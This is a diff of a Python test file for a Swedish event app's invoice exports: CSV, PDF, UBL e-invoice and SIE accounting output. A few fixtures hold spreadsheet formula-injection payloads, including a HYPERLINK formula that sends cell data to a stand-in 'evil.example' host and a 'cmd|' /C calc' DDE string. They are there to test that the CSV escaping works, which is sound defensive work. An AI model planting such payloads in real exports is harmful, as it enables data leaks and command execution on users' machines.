@@ -5,13 +5,14 @@ import subprocess
 from decimal import Decimal
 
 import pytest
-from invoice_builders import NACKA, approved_and_issued, no_show, past_event, staff, ubl
+from flask_babel import force_locale
+from invoice_builders import ADDRESS, NACKA, approved_and_issued, no_show, past_event, pdf, staff, ubl
 from lxml import etree
 from stdnum.se import orgnr
 
 from eventapp.exports.invoice_csv import invoices_csv
 from eventapp.exports.invoice_pdf import invoice_pdf
-from eventapp.exports.sie import SieAccounts, sie_file
+from eventapp.exports.sie import ACCOUNT_NAMES, SieAccounts, accounts_from_config, pc8, sie_file
 from eventapp.exports.tabular import safe_text
 from eventapp.models import VatTreatment
 from eventapp.services import invoicing, noshow
@@ -28,7 +29,8 @@ HOSTILE = '=HYPERLINK("http://evil.example")<b>"Ö\\'
 def issued(ctx, now):
     """Nacka kommun: two no-shows on one invoice (one with a hostile name), and its credit note."""
     event, at = past_event(now, title="Nowa Nyfiken på Almedalen", venue="Nordstan", city="Göteborg")
-    no_show(event, at, 1, first_name="Åsa", **NACKA, invoice_address="Box 1\n131 81 Nacka")
+    no_show(event, at, 1, first_name="Åsa", **{**NACKA, "invoice_street": "Box 1"},
+            invoice_address="c/o Kommunikationsenheten")
     no_show(event, at, 2, first_name=HOSTILE, **NACKA)
     finance = staff("finance")
     [invoice] = approved_and_issued(event, now, staff("organiser"), finance).invoices
@@ -157,9 +159,9 @@ def test_csv_escapes_a_buyer_named_like_a_formula(ctx, now):
     hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'
     event, at = past_event(now)
     no_show(event, at, 1, organisation=hyperlink, organisation_kind="company", org_number="556677-8899",
-            invoice_reference="@SUM(1+1)*cmd|' /C calc'!A0")
+            invoice_reference="@SUM(1+1)*cmd|' /C calc'!A0", **ADDRESS)
     [invoice] = approved_and_issued(event, now, staff("organiser"), staff("finance")).invoices
-    credit = invoicing.credit_invoice(invoice.id, actor=staff("finance"), now=now)
+    credit = invoicing.credit_invoice(invoice.id, actor=staff("finance"), now=now, whole=True, reason="Fel")
     [header, invoice_row, credit_row] = csv.reader(io.StringIO(invoices_csv([invoice, credit]).decode("utf-8-sig")),
                                                    delimiter=";")
     row = dict(zip(header, invoice_row, strict=True))
@@ -177,3 +179,98 @@ def test_the_day_of_supply_is_the_local_day_of_the_event(ctx, now):
     no_show(event, at, 1, **NACKA)
     [invoice] = approved_and_issued(event, now, staff("organiser"), staff("finance")).invoices
     assert text(etree.fromstring(ubl(invoice)), "cac:Delivery/cbc:ActualDeliveryDate") == "2017-01-01"
+
+
+def test_ubl_buyer_address_is_street_postcode_and_city_never_the_organisations_name(issued):
+    invoice, _ = issued
+    address = etree.fromstring(ubl(invoice)).find("cac:AccountingCustomerParty/cac:Party/cac:PostalAddress", NS)
+    assert text(address, "cbc:StreetName") == "Box 1"
+    assert text(address, "cbc:AdditionalStreetName") == "c/o Kommunikationsenheten"
+    assert (text(address, "cbc:PostalZone"), text(address, "cbc:CityName")) == ("13181", "Nacka")
+    assert text(address, "cac:Country/cbc:IdentificationCode") == "SE"
+
+
+def test_ubl_of_an_e_mail_buyer_names_no_peppol_participant(ctx, now):
+    """A company without a Peppol ID gets the PDF by e-mail: its XML carries no EndpointID (nobody registered
+    0007:<its number>) and does not claim to be a Peppol document."""
+    event, at = past_event(now)
+    no_show(event, at, 1, organisation="Exempelbolaget AB", org_number="556999-9997", invoice_reference="R1",
+            invoice_address="faktura@example.org", **ADDRESS)
+    [invoice] = approved_and_issued(event, now, staff("organiser"), staff("finance")).invoices
+    assert invoice.delivery == "email"
+    tree = etree.fromstring(ubl(invoice))
+    assert tree.find("cac:AccountingCustomerParty/cac:Party/cbc:EndpointID", NS) is None
+    assert text(tree, "cbc:CustomizationID") == "urn:cen.eu:en16931:2017" and tree.find("cbc:ProfileID", NS) is None
+    address = tree.find("cac:AccountingCustomerParty/cac:Party/cac:PostalAddress", NS)
+    assert text(address, "cbc:StreetName") == "Storgatan 1" and address.find("cbc:AdditionalStreetName", NS) is None
+    assert tree.find("cac:AccountingSupplierParty/cac:Party/cbc:EndpointID", NS) is not None
+
+
+def test_the_pdf_header_holds_a_100_character_reference(ctx, now):
+    """A reference of 100 characters without a space: do the title, number and dates stay on the page, and is
+    the reference printed in full?"""
+    reference = "KOMMUNIKATIONSENHETEN" + "0123456789" * 7 + "REF4711XX"  # no hyphen: pdftotext drops one at a break
+    assert len(reference) == 100
+    event, at = past_event(now)
+    no_show(event, at, 1, **{**NACKA, "invoice_reference": reference})
+    [invoice] = approved_and_issued(event, now, staff("organiser"), staff("finance")).invoices
+    shown = pdf_text(pdf(invoice))
+    for required in ["Faktura", "Nummer", str(invoice.number), invoice.issue_date.isoformat(),
+                     invoice.due_date.isoformat(), "Nowa Kommunikation AB", "Sida 1 av 1"]:
+        assert required in shown, required
+    assert reference in "".join(shown.split())  # wrapped, not cut
+
+
+def test_every_pdf_page_carries_the_number_and_the_page(ctx, now):
+    event, at = past_event(now)
+    for n in range(60):
+        no_show(event, at, n, **NACKA)
+    [invoice] = approved_and_issued(event, now, staff("organiser"), staff("finance")).invoices
+    pages = pdf_text(pdf(invoice)).split("\f")[:-1]
+    assert len(pages) >= 2
+    for number, page in enumerate(pages, start=1):
+        assert f"Faktura {invoice.number} · Sida {number} av {len(pages)}" in page
+
+
+def test_the_pdf_of_a_fee_outside_the_scope_of_vat_prints_no_rate(ctx, now):
+    event, at = past_event(now)
+    no_show(event, at, 1, **NACKA)
+    organiser = staff("organiser")
+    noshow.set_vat_treatment(event.id, VatTreatment.OUTSIDE_SCOPE, "Skadestånd, ej omsättning", actor=organiser,
+                             now=now)
+    [invoice] = approved_and_issued(event, now, organiser, staff("finance")).invoices
+    shown = pdf_text(pdf(invoice))
+    assert "Utanför momsens tillämpningsområde: Skadestånd, ej omsättning" in shown
+    assert "Belopp utanför momsens tillämpningsområde" in shown
+    assert "Momssats" not in shown and "0 %" not in shown and "Moms 0" not in shown
+
+
+def test_sie_is_bas2014_with_configured_names_and_transliterated_letters(issued, now):
+    invoice, credit = issued
+    accounts = SieAccounts(names={**ACCOUNT_NAMES, "receivable": "Kundfordringar, evenemang"})
+    data = sie_file([invoice], [], company="Łódź Grønt Ltd", org_number="559900-0006", accounts=accounts,
+                    generated_on=now.date())
+    sie = data.decode("cp437")
+    assert "#KPTYP BAS2014\r\n" in sie
+    assert '#KONTO 1510 "Kundfordringar, evenemang"' in sie and '#KONTO 3041 "Försäljning tjänster, 25 % moms"' in sie
+    assert '#FNAMN "Lódz Gront Ltd"' in sie and "?" not in sie  # ó is in code page 437, Ł, ź and ø are not
+    assert pc8("محمد Дарья") == "mhmd Dar'ya"
+
+
+def test_sie_account_names_come_from_the_settings(app):
+    app.config["SIE_ACCOUNT_NAME_BANK"] = "Plusgiro"
+    assert accounts_from_config(app.config).names["bank"] == "Plusgiro"
+    assert accounts_from_config(app.config).names["vat"] == "Utgående moms, 25 %"
+
+
+def test_the_csv_is_in_the_users_language(issued, app):
+    invoice, credit = issued
+    with app.test_request_context(headers={"Accept-Language": "en"}), force_locale("en"):
+        rows = list(csv.reader(io.StringIO(invoices_csv([invoice, credit]).decode("utf-8-sig")), delimiter=";"))
+    assert rows[0][:3] == ["Number", "Type", "Credits invoice"]
+    assert rows[1][1] == "Invoice" and rows[1][9] == "Peppol e-invoice" and rows[1][-3] == "Issued"
+    with app.test_request_context(), force_locale("sv"):
+        rows = list(csv.reader(io.StringIO(invoices_csv([invoice, credit]).decode("utf-8-sig")), delimiter=";"))
+    assert rows[0][:3] == ["Nummer", "Typ", "Krediterar faktura"]
+    assert rows[1][1] == "Faktura" and rows[1][9] == "Peppol-e-faktura" and rows[1][-3] == "Utfärdad"
+    assert rows[2][1] == "Kreditfaktura" and rows[2][-3] == "Kreditfaktura"
